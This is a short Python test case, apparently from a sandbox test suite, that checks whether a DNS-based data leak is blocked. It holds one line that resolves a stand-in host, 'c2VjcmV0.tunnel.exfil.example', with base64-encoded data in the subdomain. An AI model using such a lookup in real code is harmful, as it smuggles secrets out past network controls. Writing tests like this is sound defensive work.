# attack: leak data through a DNS lookup from Python
# expect: VIOLATION DNS
# stopped-by: no resolver and no network
import socket
socket.gethostbyname("c2VjcmV0.tunnel.exfil.example")
raise SystemExit(42)
